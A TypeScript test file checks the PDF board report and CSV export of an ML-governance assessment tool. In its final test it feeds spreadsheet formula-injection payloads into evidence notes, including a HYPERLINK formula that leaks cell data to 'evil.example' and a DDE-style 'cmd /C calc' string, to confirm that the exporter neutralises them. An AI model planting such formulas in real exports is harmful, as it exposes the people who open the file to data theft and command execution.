import { describe, expect, it } from "vitest";
import type { Actor } from "../audit/audit.server";
import { createAssessment, finalizeAssessment, getAssessment, previousFinalized } from "../assessment/assessments.server";
import { saveResponses } from "../assessment/capture.server";
import { getFramework } from "../framework/framework";
import { createModel, createVersion } from "../registry/registry.server";
import { transitionVersion } from "../governance/transitions.server";
import { assessmentBoardReport, assessmentResponsesCsv } from "./assessment-report.server";
import { parseCsv, pdfLayoutProblems, pdfPageCount } from "../../../tests/setup/readers";
import { insertTestOrg } from "../../../tests/setup/factories";

/**
 * The board report (PDF) and the responses export (CSV) of an assessment,
 * built from real assessments in the per-file test database.
 */

const LEADER: Actor = { type: "system", label: "leader@test" };
const framework = getFramework();
const statementsAt = (componentId: string, level: number) =>
  framework.components
    .find((c) => c.id === componentId)!
    .capabilities.filter((s) => s.level === level)
    .map((s) => s.id);
const STATEMENT_COUNT = framework.components.reduce((n, c) => n + c.capabilities.length, 0);
const QUESTION_COUNT = framework.questions.length;

const newOrg = () => insertTestOrg("report-org");

/** An organisation with one production model in 2025-Q2 and a finalised, flagged and justified Q2 assessment after a finalised Q1. */
function finalisedAssessment() {
  const org = newOrg();
  createModel(org.id, { name: "Churn model", slug: "churn", riskTier: "minimal" }, LEADER, "ui", { now: new Date("2025-04-10T00:00:00Z") });
  createVersion(
    org.id,
    "churn",
    { version: "1.0.0", codeRef: "git:1", trainingData: { ref: "s3://t" }, hyperparameters: { a: 1 }, metrics: { auc: 0.8 } },
    LEADER,
    "api",
    {
      now: new Date("2025-04-10T00:00:00Z"),
    },
  );
  for (const to of ["validation", "staging", "production"] as const) {
    transitionVersion(
      org.id,
      "churn",
      "1.0.0",
      { to },
      LEADER,
      { mayPromote: true },
      { now: new Date("2025-05-01T00:00:00Z"), importedHistory: true },
    );
  }
  const q1 = createAssessment(org.id, { period: "2025-Q1" }, LEADER);
  saveResponses(
    org.id,
    q1.id,
    { capabilities: statementsAt("standards", 2).map((id) => ({ id, status: "in_place" as const })), questions: [] },
    LEADER,
  );
  finalizeAssessment(org.id, q1.id, { justifications: {}, acceptUnanswered: true }, LEADER);

  const { id } = createAssessment(org.id, { period: "2025-Q2" }, LEADER);
  saveResponses(
    org.id,
    id,
    {
      capabilities: [
        ...[...statementsAt("production-operations", 2), ...statementsAt("production-operations", 3)].map((sid) => ({
          id: sid,
          status: "in_place" as const,
        })),
        {
          id: "mlops.l2.1",
          status: "partial",
          evidence: { note: "Runbook — see wiki", url: "https://wiki.example/runbook", date: "2025-05-20" },
        },
        { id: "mlops.l2.2", status: "not_applicable", reason: 'No, "batch" jobs, at all' },
      ],
      questions: [
        { id: "production-operations", level: 3, note: "Agreed in the review" },
        { id: "development-capability", level: 5 },
      ],
    },
    LEADER,
  );
  const detail = finalizeAssessment(
    org.id,
    id,
    { justifications: { "production-operations": "Four more models go live in July." }, acceptUnanswered: true },
    LEADER,
  );
  return { org, id, detail };
}

describe("assessmentBoardReport", () => {
  it("renders a multi-page PDF of a finalised assessment (with the previous quarter)", async () => {
    const { org, detail } = finalisedAssessment();
    expect(detail.status).toBe("finalized");
    const previous = previousFinalized(org.id, detail.period);
    expect(previous?.period).toBe("2025-Q1");
    const pdf = await assessmentBoardReport(org.name, detail, previous);
    expect(pdf).toBeInstanceOf(Uint8Array);
    expect(Buffer.from(pdf.subarray(0, 5)).toString("latin1")).toBe("%PDF-");
    // Page 1 is the executive summary, then the evidence rules, questions, registry figures, gaps and evidence.
    expect(pdfPageCount(pdf)).toBe(3);
    expect(pdfLayoutProblems(pdf)).toEqual([]);
    expect(Buffer.from(pdf).toString("latin1").trimEnd().endsWith("%%EOF")).toBe(true);
  });

  it("also renders a first quarter (no previous) and an empty draft", async () => {
    const org = newOrg();
    const { id } = createAssessment(org.id, { period: "2025-Q3" }, LEADER);
    const draft = getAssessment(org.id, id)!;
    const pdf = await assessmentBoardReport(org.name, draft, null);
    expect(Buffer.from(pdf.subarray(0, 4)).toString("latin1")).toBe("%PDF");
    expect(pdfPageCount(pdf)).toBeGreaterThanOrEqual(1);
    expect(pdfLayoutProblems(pdf)).toEqual([]);
  });
});

describe("assessmentResponsesCsv", () => {
  it("has a header, one row per framework statement and one per question, in framework order", () => {
    const { detail } = finalisedAssessment();
    const rows = parseCsv(assessmentResponsesCsv(detail));
    expect(rows[0]).toEqual([
      "kind",
      "component",
      "id",
      "level",
      "text",
      "response",
      "reason",
      "evidence_note",
      "evidence_url",
      "evidence_date",
      "updated_by",
    ]);
    const body = rows.slice(1);
    expect(STATEMENT_COUNT).toBe(104);
    expect(body).toHaveLength(STATEMENT_COUNT + QUESTION_COUNT);
    expect(body.filter((r) => r[0] === "statement")).toHaveLength(STATEMENT_COUNT);
    expect(body.filter((r) => r[0] === "question")).toHaveLength(QUESTION_COUNT);
    expect(body.map((r) => r[2])).toEqual([
      ...framework.components.flatMap((c) => c.capabilities.map((s) => s.id)),
      ...framework.questions.map((q) => q.id),
    ]);
    for (const r of body) expect(r).toHaveLength(11);

    const byId = new Map(body.map((r) => [`${r[0]}:${r[2]}`, r]));
    expect(byId.get("statement:mlops.l2.1")).toEqual([
      "statement",
      "mlops",
      "mlops.l2.1",
      "2",
      framework.components.find((c) => c.id === "mlops")!.capabilities[0]!.text,
      "partial",
      "",
      "Runbook — see wiki",
      "https://wiki.example/runbook",
      "2025-05-20",
      "leader@test",
    ]);
    // Commas and quotes survive the round trip.
    expect(byId.get("statement:mlops.l2.2")!.slice(5, 7)).toEqual(["not_applicable", 'No, "batch" jobs, at all']);
    expect(byId.get("statement:standards.l5.1")![5]).toBe("unanswered");
    expect(byId.get("question:production-operations")!.slice(0, 8)).toEqual([
      "question",
      "production-operations",
      "production-operations",
      "3",
      framework.questions.find((q) => q.id === "production-operations")!.title,
      "level 3",
      "",
      "Agreed in the review",
    ]);
    expect(byId.get("question:mlops-automation")!.slice(3, 6)).toEqual([
      "",
      framework.questions.find((q) => q.id === "mlops-automation")!.title,
      "unanswered",
    ]);
  });

  it("neutralises a formula typed into an evidence note (and other formula starts)", () => {
    const org = newOrg();
    const { id } = createAssessment(org.id, { period: "2025-Q2" }, LEADER);
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for evidence")';
    saveResponses(
      org.id,
      id,
      {
        capabilities: [
          { id: "lifecycle.l2.1", status: "in_place", evidence: { note: formula } },
          { id: "lifecycle.l2.2", status: "not_applicable", reason: "+SUM(1,2)" },
          { id: "lifecycle.l2.3", status: "partial", evidence: { note: "@cmd|' /C calc'!A0" } },
          { id: "lifecycle.l2.4", status: "none", evidence: { note: "-2+3" } },
        ],
        questions: [{ id: "mlops-automation", level: 2, note: "=1+1" }],
      },
      LEADER,
    );
    const csv = assessmentResponsesCsv(getAssessment(org.id, id)!);
    const rows = parseCsv(csv);
    const row = (kind: string, sid: string) => rows.find((r) => r[0] === kind && r[2] === sid)!;
    expect(row("statement", "lifecycle.l2.1")[7]).toBe(`'${formula}`);
    expect(row("statement", "lifecycle.l2.1")[7]!.startsWith("'=")).toBe(true);
    expect(row("statement", "lifecycle.l2.2")[6]).toBe("'+SUM(1,2)");
    expect(row("statement", "lifecycle.l2.3")[7]).toBe("'@cmd|' /C calc'!A0");
    expect(row("statement", "lifecycle.l2.4")[7]).toBe("'-2+3");
    expect(row("question", "mlops-automation")[7]).toBe("'=1+1");
    // No cell of the raw file starts with a formula character.
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
